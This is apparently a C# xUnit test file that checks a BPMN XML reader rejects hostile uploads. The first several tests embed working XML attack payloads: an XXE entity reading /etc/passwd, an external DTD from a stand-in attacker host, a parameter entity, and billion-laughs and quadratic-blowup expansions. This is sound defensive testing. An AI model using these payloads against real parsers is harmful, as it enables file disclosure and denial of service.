using System.Text;
using Wbpm.Domain.Modeling;

namespace Wbpm.Tests.Domain.Modeling;

/// <summary>Uploaded BPMN is hostile until parsed: none of these may hang, crash, expand entities or read a file.</summary>
public sealed class HostileBpmnTests
{
    private const string Root = "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" id=\"d\" targetNamespace=\"x\">";

    private static BpmnParseError ReadFails(string xml, BpmnReaderOptions? options = null)
    {
        var exception = Assert.Throws<BpmnParseException>(() => new BpmnReader(options).Read(xml));
        Assert.NotEmpty(exception.Errors);
        return exception.Errors[0];
    }

    [Fact]
    public void ExternalFileEntityIsRejectedWithoutReadingTheFile()
    {
        var error = ReadFails($"""<?xml version="1.0"?><!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{Root}<documentation>&xxe;</documentation></definitions>""");

        Assert.Contains("DOCTYPE", error.Message);
        Assert.DoesNotContain("root:", error.Message);
        Assert.True(error.Line > 0);
    }

    [Fact]
    public void ExternalDtdIsRejected()
    {
        var error = ReadFails($"""<?xml version="1.0"?><!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">{Root}</definitions>""");
        Assert.Contains("DTD", error.Message);
    }

    [Fact]
    public void ParameterEntityIsRejected()
    {
        var error = ReadFails($"""<?xml version="1.0"?><!DOCTYPE definitions [<!ENTITY % remote SYSTEM "file:///etc/hostname"> %remote;]>{Root}</definitions>""");
        Assert.Contains("DTD", error.Message);
    }

    [Fact]
    public void BillionLaughsIsRejectedBeforeAnyExpansion()
    {
        var dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
            dtd.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? "" : (i - 1).ToString())};", 10))}\">");
        dtd.Append("]>");

        var error = ReadFails($"<?xml version=\"1.0\"?>{dtd}{Root}<documentation>&lol9;</documentation></definitions>");

        Assert.Contains("DTD", error.Message);
    }

    [Fact]
    public void QuadraticBlowUpIsRejected()
    {
        var big = new string('a', 100_000);
        var uses = string.Concat(Enumerable.Repeat("&a;", 10_000));

        var error = ReadFails($"<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"{big}\">]>{Root}<documentation>{uses}</documentation></definitions>");

        Assert.Contains("DTD", error.Message);
    }

    [Fact]
    public void DocumentLargerThanTheCharacterCapIsRejected()
    {
        var xml = $"{Root}<documentation>{new string('x', 5_000)}</documentation></definitions>";

        var error = ReadFails(xml, new BpmnReaderOptions { MaxCharactersInDocument = 1_000 });

        Assert.Contains("larger than the limit", error.Message);
    }

    [Fact]
    public void StreamLargerThanTheCharacterCapIsRejectedWithoutReadingItAll()
    {
        using var endless = new RepeatingStream();

        var exception = Assert.Throws<BpmnParseException>(() =>
            new BpmnReader(new BpmnReaderOptions { MaxCharactersInDocument = 10_000 }).Read(endless));

        Assert.Contains("larger than the limit", exception.Errors[0].Message);
        Assert.True(endless.Position < 1_000_000);
    }

    [Fact]
    public void TenThousandDeepNestingIsRejected()
    {
        var xml = Root + string.Concat(Enumerable.Repeat("<a>", 10_000)) + string.Concat(Enumerable.Repeat("</a>", 10_000)) + "</definitions>";

        var error = ReadFails(xml);

        Assert.Contains("nested more than 100 levels", error.Message);
        Assert.True(error.Line > 0);
    }

    [Fact]
    public void TooManyElementsAreRejected()
    {
        var xml = Root + string.Concat(Enumerable.Repeat("<message/>", 200)) + "</definitions>";

        var error = ReadFails(xml, new BpmnReaderOptions { MaxElements = 100 });

        Assert.Contains("more than 100 elements", error.Message);
    }

    [Fact]
    public void DocumentInAnotherNamespaceIsNotBpmn()
    {
        var error = ReadFails("<definitions xmlns=\"http://www.omg.org/spec/DMN/20180521/MODEL/\" id=\"d\"/>");

        Assert.Contains("BPMN 2.0 document starts with <definitions>", error.Message);
        Assert.Equal(1, error.Line);
    }

    [Fact]
    public void TextThatIsNotXmlIsRejected()
    {
        var error = ReadFails("{\"this\": \"is json\"}");
        Assert.Contains("not well-formed XML", error.Message);
        Assert.Equal(1, error.Line);
    }

    [Fact]
    public void UnclosedElementIsRejectedWithItsPosition()
    {
        var error = ReadFails(Root + "\n<process id=\"p\">\n</definitions>");
        Assert.Contains("not well-formed XML", error.Message);
        Assert.True(error.Line >= 2);
    }

    [Fact]
    public void EmptyStringIsRejected()
    {
        var error = ReadFails("");
        Assert.Contains("empty", error.Message);
    }

    [Fact]
    public void EmptyStreamIsRejected()
    {
        var exception = Assert.Throws<BpmnParseException>(() => new BpmnReader().Read(new MemoryStream()));
        Assert.Contains("empty", exception.Errors[0].Message);
    }

    [Fact]
    public void DuplicateIdsAreReportedWithBothPositions()
    {
        var error = ReadFails(BpmnSnippets.Process("<task id=\"t\"/>\n<task id=\"t\"/>"));

        Assert.Equal("t", error.ElementId);
        Assert.Contains("used twice", error.Message);
        Assert.True(error.Line > 0 && error.Column > 0);
    }

    [Theory]
    [InlineData("<startEvent id=\"s\"/><sequenceFlow id=\"f\" sourceRef=\"nowhere\" targetRef=\"s\"/>", "f", "sourceRef=\"nowhere\"")]
    [InlineData("<startEvent id=\"s\"/><sequenceFlow id=\"f\" sourceRef=\"s\" targetRef=\"missing\"/>", "f", "targetRef=\"missing\"")]
    [InlineData("<task id=\"t\"/><boundaryEvent id=\"b\" attachedToRef=\"ghost\"/>", "b", "attachedToRef=\"ghost\"")]
    [InlineData("<exclusiveGateway id=\"g\" default=\"nope\"/>", "g", "default=\"nope\"")]
    [InlineData("<intermediateCatchEvent id=\"c\"><messageEventDefinition messageRef=\"NoSuchMessage\"/></intermediateCatchEvent>", "c", "messageRef=\"NoSuchMessage\"")]
    [InlineData("<receiveTask id=\"r\" messageRef=\"NoSuchMessage\"/>", "r", "no <message>")]
    [InlineData("<endEvent id=\"e\"><errorEventDefinition errorRef=\"NoSuchError\"/></endEvent>", "e", "no <error>")]
    [InlineData("<endEvent id=\"e\"><signalEventDefinition signalRef=\"NoSuchSignal\"/></endEvent>", "e", "no <signal>")]
    public void DanglingReferenceIsReportedOnTheReferringElement(string body, string elementId, string expected)
    {
        var error = ReadFails(BpmnSnippets.Process(body));

        Assert.Equal(elementId, error.ElementId);
        Assert.Contains(expected, error.Message);
        Assert.True(error.Line > 0);
    }

    [Fact]
    public void SequenceFlowToANodeOfAnotherScopeIsRejected()
    {
        var error = ReadFails(BpmnSnippets.Process(
            "<startEvent id=\"s\"/><sequenceFlow id=\"f\" sourceRef=\"s\" targetRef=\"inner\"/>" +
            "<subProcess id=\"sub\"><task id=\"inner\"/></subProcess>"));

        Assert.Equal("f", error.ElementId);
        Assert.Contains("same process or subprocess", error.Message);
    }

    [Fact]
    public void AllErrorsOfADocumentAreReportedTogether()
    {
        var exception = Assert.Throws<BpmnParseException>(() => BpmnReader.ReadString(BpmnSnippets.Process(
            "<startEvent id=\"s\"/><sequenceFlow id=\"f1\" sourceRef=\"s\" targetRef=\"x\"/><sequenceFlow id=\"f2\" sourceRef=\"y\" targetRef=\"s\"/>")));

        Assert.Equal(2, exception.Errors.Count);
        Assert.Contains("2 errors", exception.Message);
    }

    /// <summary>A stream that never ends: proves the reader stops at the cap.</summary>
    private sealed class RepeatingStream : Stream
    {
        private long _position;
        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => _position; set => throw new NotSupportedException(); }
        public override void Flush() { }
        public override int Read(byte[] buffer, int offset, int count)
        {
            Array.Fill(buffer, (byte)'<', offset, count);
            _position += count;
            return count;
        }
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
